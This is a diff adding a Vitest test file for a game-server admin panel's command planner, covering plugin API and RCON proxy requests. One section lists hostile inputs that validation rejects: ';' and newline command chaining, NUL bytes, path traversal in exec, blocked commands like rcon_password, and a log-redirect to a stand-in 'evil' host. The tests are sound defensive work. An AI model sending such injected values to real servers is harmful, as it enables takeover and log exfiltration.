@@ -1,0 +1,190 @@
+import { describe, expect, test } from "vitest";
+import {
+  consoleCommands,
+  InvalidActionError,
+  planAction,
+  toggleFromCommand,
+  type ServerAction,
+} from "./commands";
+
+const STEAM = "76561198000000001";
+
+describe("planAction on the plugin API", () => {
+  test.each<[ServerAction, unknown]>([
+    [
+      { kind: "say", message: "Привіт" },
+      [{ method: "POST", path: "/private/say", body: { message: "Привіт" } }],
+    ],
+    [{ kind: "restartGame" }, [{ method: "POST", path: "/private/map/restart" }]],
+    [{ kind: "skipWarmup" }, [{ method: "POST", path: "/private/map/warmup/skip" }]],
+    [{ kind: "resetStats" }, [{ method: "POST", path: "/private/restart" }]],
+    [{ kind: "restartServices" }, [{ method: "POST", path: "/private/_restart" }]],
+    [{ kind: "serverUpdate" }, [{ method: "POST", path: "/private/server/update" }]],
+    [
+      { kind: "kick", steamId: STEAM },
+      [{ method: "POST", path: `/private/players/${STEAM}/kick` }],
+    ],
+    [
+      { kind: "ban", steamId: STEAM, duration: 0 },
+      [{ method: "POST", path: `/private/players/${STEAM}/ban`, body: { duration: 0 } }],
+    ],
+    [
+      { kind: "unban", steamId: STEAM },
+      [{ method: "POST", path: "/private/unban", body: { steamId: STEAM } }],
+    ],
+    [
+      { kind: "cvar", cvar: "mp_roundtime", value: "2.5" },
+      [{ method: "PUT", path: "/private/cvar", body: { cvar: "mp_roundtime", value: "2.5" } }],
+    ],
+    [
+      { kind: "changeMap", map: "de_nuke" },
+      [{ method: "POST", path: "/private/command", body: { command: "changelevel de_nuke" } }],
+    ],
+  ])("%j", (action, expected) => {
+    expect(planAction(action, "HTTP")).toMatchObject(expected as object[]);
+    expect(planAction(action, "HTTP").every((r) => r.isPrivate)).toBe(true);
+  });
+
+  test("game mode sends alias, mode and type in sequence", () => {
+    expect(planAction({ kind: "gameMode", mode: "wingman" }, "HTTP").map((r) => r.body)).toEqual([
+      { command: "game_alias wingman" },
+      { command: "game_mode 2" },
+      { command: "game_type 0" },
+    ]);
+  });
+
+  test("bhop switches both cvars", () => {
+    expect(consoleCommands({ kind: "toggle", toggle: "bhop", enabled: true })).toEqual([
+      "sv_autobunnyhopping 1",
+      "sv_enablebunnyhopping 1",
+    ]);
+  });
+});
+
+describe("planAction on the RCON proxy", () => {
+  test("every action becomes console commands on /command", () => {
+    expect(planAction({ kind: "kick", steamId: STEAM }, "RCON_PROXY")).toEqual([
+      { method: "POST", path: "/command", body: { command: `kickid ${STEAM}` } },
+    ]);
+    expect(
+      planAction({ kind: "toggle", toggle: "isPaused", enabled: false }, "RCON_PROXY")[0]!.body,
+    ).toEqual({
+      command: "mp_unpause_match",
+    });
+  });
+
+  test("launch with team assignment is refused, clearly", () => {
+    const payload = {
+      Mode: "wingman",
+      Map: "de_nuke",
+      TeamA: { Side: "CT" as const, Players: [] },
+      TeamB: { Side: "T" as const, Players: [] },
+    };
+    expect(() => planAction({ kind: "launchGame", payload }, "RCON_PROXY")).toThrow(
+      /недоступний для RCON/,
+    );
+  });
+});
+
+describe("hostile input is refused before anything is sent", () => {
+  const hostile: [string, ServerAction, RegExp][] = [
+    ["command chaining with ;", { kind: "command", command: "say hi; quit" }, /";"/],
+    ["newline in a command", { kind: "command", command: "say hi\nquit" }, /перенесення/],
+    ["carriage return", { kind: "command", command: "say hi\rquit" }, /перенесення/],
+    ["NUL byte", { kind: "command", command: "say hi\0quit" }, /NUL/],
+    ["quit", { kind: "command", command: "quit" }, /заборонена/],
+    ["exit with spaces and caps", { kind: "command", command: "  EXIT  " }, /заборонена/],
+    ["rcon_password", { kind: "command", command: "rcon_password x" }, /заборонена/],
+    ["sv_rcon_banpenalty", { kind: "command", command: "sv_rcon_banpenalty 0" }, /заборонена/],
+    [
+      "logaddress_add",
+      { kind: "command", command: "logaddress_add_http http://evil" },
+      /заборонена/,
+    ],
+    ["writeid", { kind: "command", command: "writeid" }, /заборонена/],
+    ["alias", { kind: "command", command: "alias x quit" }, /заборонена/],
+    ["bind", { kind: "command", command: "bind k quit" }, /заборонена/],
+    ["plugin control", { kind: "command", command: "css_plugins unload x" }, /заборонена/],
+    [
+      "exec path traversal in the free box",
+      { kind: "command", command: "exec ../../autoexec" },
+      /конфіги/,
+    ],
+    ["over-long command", { kind: "command", command: "say " + "x".repeat(330) }, /330/],
+    ["empty command", { kind: "command", command: "   " }, /Введіть/],
+    ["chat with ;", { kind: "say", message: "hi; quit" }, /";"/],
+    ["chat with quotes", { kind: "say", message: 'hi" quit' }, /лапки/],
+    ["over-long chat", { kind: "say", message: "x".repeat(101) }, /100/],
+    ["map with ;", { kind: "changeMap", map: "de_nuke;quit" }, /Оберіть мапу/],
+    ["unknown map", { kind: "changeMap", map: "de_notamap" }, /Оберіть мапу/],
+    ["empty map", { kind: "changeMap", map: "" }, /Оберіть мапу/],
+    ["workshop id with text", { kind: "workshopMap", workshopId: "123456; quit" }, /Оберіть мапу/],
+    ["config with ..", { kind: "execConfig", config: "../server" }, /Невідомий конфіг/],
+    ["config with a path", { kind: "execConfig", config: "cfg/1vs1" }, /Невідомий конфіг/],
+    ["password with ;", { kind: "setPassword", password: "a;quit" }, /Пароль/],
+    ["password with quote", { kind: "setPassword", password: 'a"b' }, /Пароль/],
+    ["password with space", { kind: "setPassword", password: "a b" }, /Пароль/],
+    ["password with newline", { kind: "setPassword", password: "a\nb" }, /Пароль/],
+    ["empty password", { kind: "setPassword", password: "" }, /Пароль/],
+    ["cvar that is a blocked command", { kind: "cvar", cvar: "rcon_password", value: "x" }, /cvar/],
+    ["cvar with ;", { kind: "cvar", cvar: "mp_x;quit", value: "1" }, /cvar/],
+    ["cvar value with ;", { kind: "cvar", cvar: "mp_roundtime", value: "1;quit" }, /cvar/],
+    [
+      "unknown game mode",
+      { kind: "gameMode", mode: "battle_royale" },
+      /Невідомий режим гри: battle_royale/,
+    ],
+    ["bad steam id", { kind: "kick", steamId: "7656119800000000; quit" }, /SteamID64/],
+    [
+      "steam id as a JS-rounded number",
+      { kind: "ban", steamId: "76561198000000000000", duration: 5 },
+      /SteamID64/,
+    ],
+    ["negative ban duration", { kind: "ban", steamId: STEAM, duration: -1 }, /Тривалість/],
+    ["fractional ban duration", { kind: "ban", steamId: STEAM, duration: 1.5 }, /Тривалість/],
+  ];
+  test.each(hostile)("%s", (_name, action, message) => {
+    for (const type of ["HTTP", "RCON_PROXY"] as const) {
+      let thrown: unknown;
+      try {
+        planAction(action, type);
+      } catch (error) {
+        thrown = error;
+      }
+      expect(thrown).toBeInstanceOf(InvalidActionError);
+      expect((thrown as Error).message).toMatch(message);
+    }
+  });
+
+  test("the limits themselves are allowed", () => {
+    expect(planAction({ kind: "command", command: "say " + "x".repeat(326) }, "HTTP")).toHaveLength(
+      1,
+    );
+    expect(planAction({ kind: "say", message: "я".repeat(100) }, "HTTP")).toHaveLength(1);
+    expect(
+      planAction({ kind: "setPassword", password: "Str0ng!Pass#2026" }, "RCON_PROXY")[0]!.body,
+    ).toEqual({
+      command: "sv_password Str0ng!Pass#2026",
+    });
+  });
+});
+
+describe("toggleFromCommand", () => {
+  test.each([
+    ["sv_cheats 1", { toggle: "cheats", enabled: true }],
+    ["SV_CHEATS false", { toggle: "cheats", enabled: false }],
+    ["mp_pause_match", { toggle: "isPaused", enabled: true }],
+    ["mp_unpause_match", { toggle: "isPaused", enabled: false }],
+    ["mp_autoteambalance 0", { toggle: "autobalance", enabled: false }],
+    ["mp_friendlyfire 1", { toggle: "friendlyfire", enabled: true }],
+    ["sv_autobunnyhopping 1", { toggle: "bhop", enabled: true }],
+    ["sv_cheats", null],
+    ["say sv_cheats 1", null],
+  ])("%s", (command, expected) => {
+    expect(toggleFromCommand(command)).toEqual(expected);
+  });
+});
+
+test("InvalidActionError is an Error", () => {
+  expect(new InvalidActionError("x")).toBeInstanceOf(Error);
+});
